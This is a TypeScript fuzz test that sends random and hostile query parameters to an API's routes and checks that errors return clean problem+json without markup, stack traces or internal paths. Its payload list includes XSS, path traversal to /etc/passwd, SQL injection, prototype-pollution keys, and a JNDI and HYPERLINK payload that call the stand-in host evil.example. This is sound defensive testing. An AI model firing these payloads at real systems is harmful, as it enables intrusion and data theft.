import fc from 'fast-check';
import { expect, test } from 'vitest';
import { repository } from '../support/raw.js';
import { type ProblemDocument, serve, studies } from './serving.js';

/** Routes whose answers take next to no time; the others are asked with one mistake at least. */
const quick = ['words', 'actors', 'instruments', 'sources/show', 'brief'];
const routes = [...quick, 'positions', 'compare', 'rank', 'assets', 'sources'];
const known = [...new Set(studies.flatMap((study) => study.parameters.map(({ name }) => name)))];

const hostile = fc.constantFrom(
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  'file:///etc/passwd',
  "'; DROP TABLE actors; --",
  '=HYPERLINK("http://evil.example")',
  '${jndi:ldap://evil.example}',
  '{"$gt":""}',
  '%00',
  '\u202Egnp.exe',
  '\uD83D\uDE00'.repeat(40),
  '1e309',
  '-0',
  'NaN',
  'constructor',
  '__proto__',
);
const value = fc.oneof(
  hostile,
  fc.string({ unit: 'binary-ascii' }),
  fc.string({ unit: 'grapheme' }),
  fc.integer().map(String),
);
const name = fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...known) }, { weight: 1, arbitrary: value });
/** Escaped, half escaped or not at all. */
const written = (one: fc.Arbitrary<string>): fc.Arbitrary<string> =>
  fc.tuple(one, fc.nat(3)).map(([text, how]) => (how === 0 ? text.replaceAll(/[^\w%&=+;.-]/g, escape) : escaped(text)));
const query = fc.array(fc.tuple(written(name), written(value)), { minLength: 1, maxLength: 5 });

function escaped(text: string): string {
  return encodeURIComponent(Buffer.from(text).toString());
}

test('whatever is asked, the answer is a problem of whoever asks, or an answer; never a fault, path, stack or markup', async () => {
  const faults: string[] = [];
  const { url } = await serve({ onFault: (told) => faults.push(told) });
  const asked = fc.tuple(fc.constantFrom(...routes), query);
  const counts: Record<number, number> = {};
  for (const [route, pairs] of fc.sample(asked, { numRuns: 500, seed: 2026 })) {
    const mistake = quick.includes(route) ? [] : ['no-such-parameter=1'];
    const text = [...pairs.map(([key, one]) => `${key}=${one}`), ...mistake].join('&');
    const response = await fetch(`${url}/api/v1/${route}?${text}`);
    const body = await response.text();
    counts[response.status] = (counts[response.status] ?? 0) + 1;
    if (response.status === 200) {
      expect(response.headers.get('content-type')).toBe('application/json');
      continue;
    }
    expect([400, 404, 406, 422], text).toContain(response.status);
    expect(response.headers.get('content-type')).toBe('application/problem+json');
    expect(body).not.toMatch(/[<>]/);
    for (const secret of [repository, 'node_modules', '.parquet', '    at ']) expect(body).not.toContain(secret);
    expect((JSON.parse(body) as ProblemDocument).code).toMatch(/^[a-z-]+$/);
  }
  expect(faults).toEqual([]);
  expect(counts[400]).toBeGreaterThan(300);
});
